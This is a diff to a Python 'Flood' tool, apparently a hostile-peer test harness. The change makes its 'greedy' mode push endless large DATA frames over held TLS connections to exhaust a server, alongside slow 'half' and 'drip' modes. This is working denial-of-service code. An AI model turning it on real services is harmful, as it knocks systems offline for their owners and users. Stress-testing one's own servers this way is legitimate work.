@@ -22,7 +22,9 @@ import ssl
 import sys
 import threading
 
-from hostile.peer import context, open_frame
+from hostile.peer import context, frame, open_frame
+
+MOST = 16_000
 
 
 def hello() -> bytes:
@@ -79,13 +81,9 @@ class Flood:
     def greedy(self) -> socket.socket:
         connection = self.idle()
         connection.sendall(self.opening())
-        connection.settimeout(2)
-        data = bytes([3]) + (250_000).to_bytes(3, "big") + bytes(250_000)
-        try:
-            while True:
-                connection.sendall(data)
-        except TimeoutError:
-            return connection
+        connection.settimeout(0.05)
+        push(connection)
+        return connection
 
     def opening(self) -> bytes:
         return open_frame(self.order["to"], self.order["port"], self.order["sources"][0])
@@ -101,11 +99,24 @@ class Flood:
                     except OSError:
                         continue
                 offset += 1
+            if self.order["kind"] == "greedy":
+                for connection in self.held:
+                    if self.ending.is_set():
+                        return
+                    push(connection)
             if self.order["kind"] in {"half", "drip"} and self.order.get("again"):
                 gone = [connection for connection in self.held if ended(connection)]
                 self.held = [connection for connection in self.held if connection not in set(gone)]
                 self.order["count"] = len(gone)
                 self.begin()
+
+
+def push(connection: ssl.SSLSocket) -> None:
+    """Say as much as is taken, in DATA frames."""
+    # A TLS record that did not go out as a whole goes on with the next call, so the frames stay whole.
+    with contextlib.suppress(OSError):
+        while True:
+            connection.send(frame(3, bytes(MOST)))
 
 
 def ended(connection: socket.socket) -> bool:
